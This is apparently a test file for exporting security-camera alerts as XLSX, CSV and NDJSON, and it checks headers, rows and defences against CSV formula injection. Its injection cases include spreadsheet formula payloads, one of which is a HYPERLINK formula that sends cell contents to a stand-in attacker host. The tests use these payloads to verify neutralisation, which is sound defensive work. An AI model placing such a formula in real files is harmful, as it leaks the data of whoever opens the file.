// Runs once: both kinds of databases run the same statements.

import { randomUUID } from "node:crypto";
import fc from "fast-check";
import { type CsvSeparator, csvFile, csvSeparators } from "../../src/platform/spreadsheet/csv.js";
import {
  createAlertComment,
  createAlertRule,
  createAlerts,
  createApiKey,
  createCamera,
  createFacility,
} from "../support/factories.js";
import { sharedWorkspace } from "../support/harness.js";
import { listOf } from "../support/list-of.js";
import {
  cellsOf,
  columns,
  csvRecords,
  type ExportFormat,
  exportedFile,
  exportedRows,
  fileOf,
  jsonLines,
  linkTo,
  pathOf,
} from "./exports.js";
import { exceljsRows, workbookOf } from "./workbook.js";

const now = new Date("2026-11-20T12:34:56.000Z");
const allTime = { start: "1970-01-01T00:00:00Z", end: "9999-12-31T23:59:59.999Z" };
const { gateway, prisma, workspaceId } = await sharedWorkspace({ now: () => now });
const as = await createApiKey(prisma, { workspaceId, permissions: ["alerts:read"] });
const facilityId = await createFacility(prisma, {
  workspaceId,
  timeZoneId: "Asia/Kathmandu",
  name: "Dock, north",
});
const cameraId = await createCamera(prisma, { workspaceId, facilityId, name: 'The "gate"' });
const site = { workspaceId, facilityId, cameraId };
const areas = [{ id: randomUUID(), type: "AREA", name: "Zone", points: [] }];
const group = { id: randomUUID(), type: "GROUP", operator: "AND", children: areas };
const alertRuleId = await createAlertRule(prisma, {
  workspaceId,
  cameraId,
  name: "FENCE",
  pretty: "A person,\nin the zone",
  group,
});
const full = {
  ...{
    ...site,
    name: "FULL",
    alertRuleId,
    areaIds: [areas[0]?.id],
    severity: "HIGH",
    count: 3,
    bookmark: true,
    observation: true,
  },
  createdAt: new Date("2026-11-20T09:30:00.999Z"),
  url: "alerts/picture.jpg",
  thumbnailUrl: "https://pictures.example/1.jpg?a=1&b=2",
  imageDimensions: { height: 720, width: 1280 },
  canvasDimensions: { height: 360.5, width: 640 },
  violatingCoordinates: [{ y: 2, x: 1.25 }],
  area: [],
  info: { zebra: 1, apple: ["ü\u0001\u2028", null], big: 12345678.9 },
  storageClass: "s3",
  acknowledgedAt: new Date("2026-11-20T10:00:00.001Z"),
  acknowledgedById: randomUUID(),
};
const sparse = listOf(1100, (index) => ({
  ...site,
  name: "SPARSE",
  createdAt: new Date(now.getTime() - 86_400_000 - index),
}));
const [alertId] = (await createAlerts(prisma, [full, ...sparse] as never)) as [string];
for (const [text, createdAt] of [
  ["Seen,\nand reported", new Date("2026-11-20T10:02:00Z")],
  ["Looking", new Date("2026-11-20T10:01:00Z")],
] as const)
  await createAlertComment(prisma, { ...site, alertId, text, createdAt });

async function exported(format: ExportFormat, filter: object = {}): Promise<Buffer> {
  return exportedFile(gateway, as, { ...allTime, ...filter }, format);
}

const expiryOf = (link: unknown) => Number(new URL(link as string).searchParams.get("expires")) * 1000;
/** For a week, and until the hour ends. */
const weekLater = Date.parse("2026-11-27T13:00:00Z");

const kinds: [ExportFormat, string, string][] = [
  ["XLSX", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "xlsx"],
  ["CSV", "text/csv; charset=utf-8", "csv"],
  ["NDJSON", "application/x-ndjson", "ndjson"],
];
it.each(kinds)("%s has its content type and file name", async (format, contentType, extension) => {
  const path = pathOf((await linkTo(gateway, as, allTime, format)).url);
  for (const method of ["HEAD", "GET"]) {
    const { status, headers } = await gateway.fetch(path, { method });
    const of = ["content-type", "content-disposition", "cache-control", "etag"].map((name) =>
      headers.get(name),
    );
    expect([status, ...of]).toEqual([
      200,
      contentType,
      `attachment; filename="alerts-2026-11-20.${extension}"`,
      "private, no-store",
      null,
    ]);
    // `fetch` asks for compression and undoes it.
    if (method === "GET") expect(headers.get("content-encoding") === null).toBe(format === "XLSX");
  }
});

it("null is the default format", async () => {
  const query = "query ($filter: AlertFilter!) { exportAlerts(filter: $filter, format: null) { url } }";
  const { exportAlerts } = await gateway.data<{ exportAlerts: { url: string } }>(query, {
    as,
    variables: { filter: allTime },
  });
  expect(
    (await gateway.fetch(pathOf(exportAlerts.url), { method: "HEAD" })).headers.get("content-type"),
  ).toBe(kinds[0]?.[1]);
});

describe("CSV", () => {
  it("has the columns and rows of the spreadsheet, with times to the second and the links of pictures", async () => {
    const [sheet] = (await workbookOf(await exported("XLSX"))).worksheets;
    const rows = await exportedRows(exceljsRows(sheet));
    const links = rows.map(
      (_, index) => sheet?.getCell(index + 2, columns.indexOf("Image") + 1).hyperlink ?? null,
    );
    const expected = rows.map((row, index) =>
      columns.map((name) => {
        const cell = name === "Image" ? links[index] : row[name];
        if (cell instanceof Date) return cell.toISOString().slice(0, 19).replace("T", " ");
        return String(cell ?? "").replace(/^(?:true|false)$/, (text) => text.toUpperCase());
      }),
    );
    const [header, ...records] = csvRecords(await exported("CSV"));
    expect(header).toEqual(columns);
    expect(records).toHaveLength(1101);
    expect(records).toEqual(expected);
    expect(records[0]?.slice(0, 4)).toEqual([
      "2026-11-20 15:15:00",
      "2026-11-20 09:30:00",
      "Dock, north",
      'The "gate"',
    ]);
    expect(records[0]?.[columns.indexOf("Rule in words")]).toBe("A person,\nin the zone");
    expect(expiryOf(links[0])).toBe(weekLater);
  });

  it("is separated by semicolons on request, and has the same records", async () => {
    const query =
      "query ($filter: AlertFilter!, $separator: String) { exportAlerts(filter: $filter, format: CSV, separator: $separator) { url } }";
    const file = async (separator: string | null) => {
      const { exportAlerts } = await gateway.data<{ exportAlerts: { url: string } }>(query, {
        as,
        variables: { filter: allTime, separator },
      });
      return fileOf(await gateway.fetch(pathOf(exportAlerts.url)));
    };
    const withSemicolons = await file(";");
    expect(String(withSemicolons.subarray(3))).toMatch(/^Local time;UTC time;Facility;/);
    expect(csvRecords(withSemicolons, ";")).toEqual(csvRecords(await file(null)));
    for (const separator of ["", "\t", ",;"]) {
      const { errors } = await gateway.graphql(query, { as, variables: { filter: allTime, separator } });
      expect(errors).toMatchObject([
        { extensions: { code: "BAD_REQUEST", details: [{ path: "separator", message: "must be , or ;" }] } },
      ]);
    }
  });

  it("begins no formula in any cell, whichever separator a program splits at", () => {
    const unit = fc.constantFrom(..."=+-@＝－﹦\t\r\n ,;\"'x1\u200b\u2800\u3164\ufeff\u00a0\u0001");
    const rows = fc.array(fc.array(fc.string({ unit, maxLength: 8 }), { minLength: 3, maxLength: 3 }), {
      minLength: 1,
      maxLength: 3,
    });
    const check = (texts: string[][], separator: CsvSeparator) => {
      const { head, lineOf } = csvFile<string[]>(
        [0, 1, 2].map((index) => ({ header: "x", width: 1, value: (row) => row[index] as string })),
        separator,
      );
      const file = head + texts.map(lineOf).join("");
      for (const split of csvSeparators)
        for (const cell of cellsOf(file, split)) expect(cell).not.toMatch(/^[\s\p{DI}\u2800]*[=+\-@＝－﹦]/u);
      const own = csvRecords(Buffer.from(file), separator).slice(1);
      const plain = (text: string) => text.replaceAll("'", "").replaceAll("\u0001", "\ufffd");
      expect(own.map((record) => record.map(plain))).toEqual(texts.map((row) => row.map(plain)));
    };
    fc.assert(fc.property(rows, fc.constantFrom(...csvSeparators), check), { numRuns: 2000 });
  });

  it("has only the header if nothing matches", async () => {
    expect(csvRecords(await exported("CSV", { types: [] }))).toEqual([columns]);
  });

  const texts: [text: string, field: string][] = [
    ["=1+1", "'=1+1"],
    ["@SUM(A1)", "'@SUM(A1)"],
    // A program that splits at the other separator cuts the text at the line break.
    ["\r=1+1", "'\r'=1+1"],
    ["x;=1+1", "x;'=1+1"],
    ["\u200b\u2800+1", "'\u200b\u2800+1"],
    ["x;\ufeff＠SUM(A1)", "x;'\ufeff＠SUM(A1)"],
    ['x;"=1', `x;'"=1`],
    ['=HYPERLINK("https://evil.example/?x="&A1,"Open")', `'=HYPERLINK("https://evil.example/?x="&A1,"Open")`],
    ["one\ntwo\r\nthree\rfour", "one\ntwo\r\nthree\rfour"],
    ["", ""],
    ["a\u0001b\u001bc\u007f", "a\ufffdb\ufffdc\ufffd"],
    ["🎥 שלום é", "🎥 שלום é"],
    ["x".repeat(40_000), "x".repeat(40_000)],
  ];
  it("has no text that a program would take for a formula, and all others unchanged but for control characters", async () => {
    const severity = randomUUID();
    const alerts = texts.map(([name], index) => ({
      ...site,
      name,
      severity,
      createdAt: new Date(now.getTime() - index),
    }));
    const ids = await createAlerts(prisma, alerts);
    const records = csvRecords(await exported("CSV", { severities: [severity] })).slice(1);
    await prisma.alert.deleteMany({ where: { id: { in: ids } } });
    expect(records.map((record) => record[columns.indexOf("Type")])).toEqual(texts.map(([, field]) => field));
  });
});

describe("NDJSON", () => {
  const fields = [
    ...[
      "id",
      "cameraId",
      "name",
      "count",
      "createdAt",
      "localCreatedAt",
      "url",
      "thumbnailUrl",
      "imageDimensions",
      "canvasDimensions",
    ],
    ...[
      "violatingCoordinates",
      "area",
      "storageClass",
      "info",
      "bookmark",
      "falsePositive",
      "alertRuleId",
      "workspaceId",
      "areaIds",
    ],
    "alertRuleName",
    ...["acknowledged", "acknowledgedBy", "acknowledgedAt", "comments", "newestComment", "typeInWords"],
  ];
  type Line = Record<string, unknown>;
  type Discussion = { totalCount: number; nodes: { text: string }[] };

  it("has the names and values of the full alert in each line", async () => {
    const query = `query ($filter: AlertFilter!, $offset: Int) { alerts(filter: $filter, first: 1000, offset: $offset) { nodes {
      id cameraId name count createdAt localCreatedAt url thumbnailUrl imageDimensions { width height } canvasDimensions { width height }
      violatingCoordinates { x y } area { x y } storageClass info bookmark falsePositive alertRuleId alertRuleName areaIds
      acknowledgedAt comments(first: 1) { totalCount nodes { text } } } } }`;
    const listed: Line[] = [];
    for (const offset of [0, 1000]) {
      const { alerts } = await gateway.data<{ alerts: { nodes: Line[] } }>(query, {
        as,
        variables: { filter: allTime, offset },
      });
      listed.push(
        ...alerts.nodes.map(({ comments, ...node }) => ({
          ...node,
          workspaceId: site.workspaceId,
          acknowledged: node.acknowledgedAt !== null,
          acknowledgedBy: null,
          comments: (comments as Discussion).totalCount,
          newestComment: (comments as Discussion).nodes[0]?.text ?? null,
          typeInWords: node.name === "FULL" ? "Full" : "Sparse",
        })),
      );
    }
    const withoutQuery = (line: Line): Line => ({
      ...line,
      url: typeof line.url === "string" ? new URL(line.url).pathname : line.url,
    });
    const lines = jsonLines<Line>(await exported("NDJSON"));
    expect(lines).toHaveLength(1101);
    expect(lines.map(withoutQuery)).toEqual(listed.map(withoutQuery));
    for (const line of lines) expect(Object.keys(line)).toEqual(fields);
    const [first] = lines as [Line];
    expect(first).toMatchObject({
      localCreatedAt: "2026-11-20T15:15:00.999+05:45",
      info: full.info,
      newestComment: "Seen,\nand reported",
      thumbnailUrl: full.thumbnailUrl,
    });
    expect(Object.keys(first.imageDimensions as object)).toEqual(["width", "height"]);
    expect(expiryOf(first.url)).toBe(weekLater);
  });

  it("is empty if nothing matches", async () => {
    expect(await exported("NDJSON", { types: [] })).toHaveLength(0);
  });

  it("reads large alerts in smaller pages", async () => {
    const name = randomUUID();
    const alert = { ...site, name, info: { text: "x".repeat(60_000) } };
    const ids = await createAlerts(prisma, Array(200).fill(alert), now);
    gateway.clearStatements();
    const lines = jsonLines<Line>(await exported("NDJSON", { types: [name] }));
    const pages = gateway.statements.filter((sql) => sql.includes('AS "bytesBefore"')).length;
    await prisma.alert.deleteMany({ where: { name } });
    expect(lines.map(({ id }) => id)).toEqual(ids);
    expect(pages).toBe(3);
  });
});
